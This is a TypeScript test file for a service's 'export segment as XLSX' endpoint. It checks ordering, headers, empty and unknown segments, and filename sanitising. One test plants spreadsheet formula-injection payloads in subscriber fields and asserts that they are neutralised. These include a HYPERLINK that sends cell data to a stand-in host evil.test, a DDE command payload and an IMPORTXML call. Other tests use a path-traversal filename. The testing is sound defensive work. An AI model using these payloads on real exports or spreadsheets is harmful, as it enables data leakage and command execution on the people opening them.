import { SUBSCRIBER_COLUMNS } from '@pushdeck/contracts';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testBackends } from '../../test/backends.ts';
import { createTestApp, DEMO, signedIn, type TestApp, type TestClient } from '../../test/harness.ts';
import {
  addManySubscribers,
  addSubscribers,
  createSegment,
  q,
  type Website,
  websiteOf,
} from './segment-test-fixtures.ts';
import { xlsxDisposition } from './segment-xlsx.ts';

async function workbookOf(payload: Buffer) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(payload as unknown as ArrayBuffer);
  const sheet = wb.worksheets[0];
  if (!sheet) throw new Error('no worksheet');
  const rows: unknown[][] = [];
  sheet.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
  return rows;
}

describe.each(testBackends())("'Upload as XLSX' on $name", (backend) => {
  let t: TestApp;
  let acme: TestClient;
  let shop: Website;
  let special = 0;
  beforeAll(async () => {
    t = await createTestApp(backend);
    shop = await websiteOf(t.handle.db, 'https://shop.acme.test');
    await addManySubscribers(t.handle.db, shop, 2345);
    const added = await addSubscribers(t.handle.db, shop, [
      {
        browser: 'Chrome',
        location: 'München',
        language: 'de-DE',
        last_url_visited: 'https://shop.acme.test/ä?x=1&y="2"',
        last_drip_number: 7,
        ip: '2001:db8::1',
        updated_at: new Date('2024-05-06T07:08:09Z'),
      },
    ]);
    special = added[0] ?? 0;
    await addSubscribers(t.handle.db, shop, [{ browser: 'Chrome', is_active: 0 }]);
    const news = await websiteOf(t.handle.db, 'https://news.globex.test');
    await addSubscribers(t.handle.db, news, [{ browser: 'Chrome' }]);
    acme = await signedIn(t, DEMO.client);
  });
  afterAll(() => t?.close());

  it("streams every active subscriber of the segment, newest first, in the table's columns", async () => {
    const id = await createSegment(acme, {
      name: 'Chrome / "fans" ü',
      domain_id: shop.id,
      query: q({ browser: { values: ['Chrome'] } }),
    });
    const res = await acme.get(`/api/v1/segments/${id}/xlsx`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.headers['content-disposition']).toBe(
      `attachment; filename="Chrome fans _.xlsx"; filename*=UTF-8''Chrome%20fans%20%C3%BC.xlsx`,
    );
    const [header, ...rows] = await workbookOf(res.rawPayload);
    expect(header).toEqual(SUBSCRIBER_COLUMNS.map((c) => c.label));
    const want = await t.handle.db
      .selectFrom('subscribers')
      .select('id')
      .where('domain_id', '=', shop.id)
      .where('is_active', '=', 1)
      .where('browser', '=', 'Chrome')
      .orderBy('id', 'desc')
      .execute();
    expect(want.length).toBeGreaterThan(1000); // more than one keyset batch
    expect(rows.map((r) => r[0])).toEqual(want.map((r) => r.id));
    const row = rows.find((r) => r[0] === special);
    expect(row).toEqual([
      special,
      expect.any(String),
      undefined,
      shop.website_id,
      undefined,
      'Chrome',
      undefined,
      'München',
      'de-DE',
      undefined,
      new Date('2024-05-06T07:08:09Z'),
      undefined,
      'https://shop.acme.test/ä?x=1&y="2"',
      7,
      '2001:db8::1',
    ]);
  });

  it('writes an empty segment as a header row, and refuses unknown segments', async () => {
    const id = await createSegment(acme, {
      name: '...',
      domain_id: shop.id,
      query: q({ browser: { values: ['None'] } }),
    });
    const res = await acme.get(`/api/v1/segments/${id}/xlsx`);
    expect(res.headers['content-disposition']).toContain(`filename="segment-${id}.xlsx"`);
    expect(await workbookOf(res.rawPayload)).toEqual([SUBSCRIBER_COLUMNS.map((c) => c.label)]);
    expect((await acme.get('/api/v1/segments/987654/xlsx')).statusCode).toBe(404);
    const viewer = await signedIn(t, DEMO.viewer);
    expect((await viewer.get(`/api/v1/segments/${id}/xlsx`)).statusCode).toBe(200);
  });

  it("writes subscriber text that a spreadsheet would run as a formula as text prefixed with '", async () => {
    const attack = {
      device: '=HYPERLINK("https://evil.test/?leak="&A1,"Click")',
      os: "+cmd|' /C calc'!A0",
      resolution: '-2+3',
      location: '@SUM(1+1)',
      language: '\t=1+1',
      timezone: '\r=1+1',
      last_url_visited: '=IMPORTXML("https://evil.test","//a")',
    };
    await addSubscribers(t.handle.db, shop, [{ browser: 'Sheets', ...attack }]);
    const id = await createSegment(acme, {
      name: 'sheets',
      domain_id: shop.id,
      query: q({ browser: { values: ['Sheets'] } }),
    });
    const res = await acme.get(`/api/v1/segments/${id}/xlsx`);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const sheet = wb.worksheets[0]!;
    const types = new Set<ExcelJS.ValueType>();
    sheet.eachRow((row) => row.eachCell((c) => void types.add(c.type)));
    expect(types.has(ExcelJS.ValueType.Formula)).toBe(false);
    expect(sheet.rowCount).toBe(2);
    const row = sheet.getRow(2);
    for (const [key, text] of Object.entries(attack)) {
      const cell = row.getCell(SUBSCRIBER_COLUMNS.findIndex((c) => c.key === key) + 1);
      expect(cell.type, key).toBe(ExcelJS.ValueType.String);
      expect(cell.value, key).toBe(`'${text.replace('\r', '\n')}`); // XML reads a CR back as a LF
    }
    expect(row.getCell(SUBSCRIBER_COLUMNS.findIndex((c) => c.key === 'browser') + 1).value).toBe('Sheets');
  });

  it('names files safely', () => {
    expect(xlsxDisposition('../../etc/passwd', 3)).toBe(
      `attachment; filename="etc passwd.xlsx"; filename*=UTF-8''etc%20passwd.xlsx`,
    );
    expect(xlsxDisposition('Ünïcode', 4)).toBe(
      `attachment; filename="_n_code.xlsx"; filename*=UTF-8''%C3%9Cn%C3%AFcode.xlsx`,
    );
    expect(xlsxDisposition("it's (new)", 6)).toBe(
      `attachment; filename="it_s (new).xlsx"; filename*=UTF-8''it%27s%20%28new%29.xlsx`,
    );
    expect(xlsxDisposition('a\r\nb', 5)).toBe(`attachment; filename="a b.xlsx"; filename*=UTF-8''a%20b.xlsx`);
  });
});
